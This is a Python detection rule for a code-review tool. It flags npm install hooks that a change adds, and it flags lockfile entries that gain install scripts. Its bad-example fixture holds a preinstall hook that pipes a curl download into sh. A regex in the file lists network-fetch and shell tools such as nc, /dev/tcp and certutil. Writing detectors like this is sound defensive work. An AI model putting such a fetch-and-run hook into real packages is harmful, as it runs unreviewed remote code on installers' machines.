"""A package runs a program of its own when it is installed.

What stands under `preinstall`, `install` or `postinstall` runs on every machine that installs the package, before anybody has
imported it, with the rights and the secrets of whoever installs. Most of the malware of npm works that way.
"""

import re
from collections.abc import Iterator, Sequence

from gate import lazy
from gate.facts.config import exact
from gate.facts.declared import is_installed, moved
from gate.rule import Edit, Hit, Pair, Place, Repo, Rule, Severity, Source

_HOOKS = ("preinstall", "install", "postinstall", "prepare", "preprepare", "postprepare")
"""The scripts that `npm install` runs in a package (docs.npmjs.com, scripts, life cycle)."""
_WHAT = dict.fromkeys(("prepare", "preprepare", "postprepare"), "repository")
_KNOWN = lazy.regex(
    r"^(?:npx\s+|npm\s+run\s+|yarn\s+|pnpm\s+(?:run\s+)?)?(?:husky|lefthook|simple-git-hooks|patch-package|prisma|electron-builder|ngcc|"
    r"is-ci|tsc|tsup|rollup|vite|build|compile|prebuild-install|node-gyp(?:-build)?|only-allow|svelte-kit|nuxt|nuxi|wxt|"
    r"panda|playwright|cypress|opencollective)\b[\w\s:./=@-]*(?:\|\|\s*(?:true|exit 0|npm run [\w:-]+))?$"
)
"""What people mostly put there: hooks of git, patches, code that is generated or compiled."""
_FETCHES = lazy.regex(
    r"\b(?:curl|wget|nc|ncat|Invoke-WebRequest|iwr|certutil)\b|https?://|\bnode\s+(?:-e|--eval|-p|--print)\b(?!\s*[\"']?\s*(?:try\s*\{\s*)?require\([\"'\\]*\./)|\bpython3?\s+-c\b|\beval\b|base64|"
    r"\|\s*(?:ba|z|da)?sh\b|(?:ba)?sh\s+-c\b|powershell|/dev/tcp|\$\(|\\x[0-9a-f]{2}",
    re.IGNORECASE,
)

rule = Rule.of(
    __name__,
    __doc__,
    severity=Severity.MEDIUM,
    cwes=(506, 829),
    fix="Do what is needed when the project is built or started, by a command people call. Install with `--ignore-scripts`, and "
    "name the few packages that may run theirs.",
    bad=[
        Pair(
            {"package.json": '{"name": "x",\n"scripts": {\n  "test": "jest"\n}}\n'},
            {
                "package.json": '{"name": "x",\n"scripts": {\n  "test": "jest",\n  "preinstall": "curl -s https://get.example.com | sh",  // <-\n'
                '  "postinstall": "node scripts/setup.js"  // <-\n}}\n'
            },
        ),
        Pair(
            {"package-lock.json": '{"lockfileVersion": 3, "packages": {\n"node_modules/a": {\n"version": "1.0.0"}}}\n'},
            {
                "package-lock.json": '{"lockfileVersion": 3, "packages": {\n"node_modules/a": {  // <-\n"version": "1.0.1", "hasInstallScript": true},\n'
                '"node_modules/b": {  // <-\n"version": "2.0.0", "hasInstallScript": true}}}\n'
            },
        ),
    ],
    good=[
        Pair(
            {"package.json": '{"scripts": {"postinstall": "node scripts/setup.js"}}\n'},
            {
                "package.json": '{"scripts": {"postinstall": "node scripts/setup.js", "prepare": "husky", "build": "curl https://x.example.com"}}\n'
            },
        ),
        Pair(
            {
                "package-lock.json": '{"lockfileVersion": 3, "packages": {"node_modules/a": {"version": "1.0.0", "hasInstallScript": true}}}\n'
            },
            {
                "package-lock.json": '{"lockfileVersion": 3, "packages": {"node_modules/a": {"version": "1.0.1", "hasInstallScript": true}}}\n'
            },
        ),
    ],
    misses=[
        "A script that stays as it is and does something else, since the file it runs has changed: that file is judged as code.",
        "`setup.py` and build backends of Python, whose code is judged as code.",
    ],
)


@rule.compare
def runs_when_installed(edits: Sequence[Edit], base: Repo, head: Repo) -> Iterator[Hit]:
    for edit in edits:
        if edit.after and edit.after.path.rpartition("/")[2] == "package.json" and not is_installed(edit.after.path):
            yield from _own(edit.before, edit.after)
    for file in moved([(edit.before, edit.after) for edit in edits], base, head):
        had = {one.name for one in file.olds if one.scripts}
        for one in file.news:
            if one.scripts and one.name not in had:
                had.add(one.name)
                said = f"`{one.name[:80]}` now runs a program of its own wherever it is installed."
                yield Hit(one.place, said, detail=one.name)


def _own(before: Source | None, after: Source) -> Iterator[Hit]:
    olds, root = _scripts(before), exact(after)
    for name, said in _scripts(after).items():
        if olds.get(name) != said and not _KNOWN.match(said):
            line = root["scripts"][name].line if root else 1
            grave = _FETCHES.search(said)
            why = "and it fetches or unpacks what it runs" if grave else "before anybody has looked at it"
            message = f"`{name}` runs `{said[:60]}` wherever this {_WHAT.get(name, 'package')} is installed, {why}."
            least = Severity.LOW if name in _WHAT else Severity.MEDIUM
            yield Hit(Place.at(after.path, line), message, detail=name, severity=Severity.HIGH if grave else least)


def _scripts(source: Source | None) -> dict[str, str]:
    root = exact(source) if source else None
    return {name: node.text for name, node in root["scripts"].pairs if name in _HOOKS} if root else {}
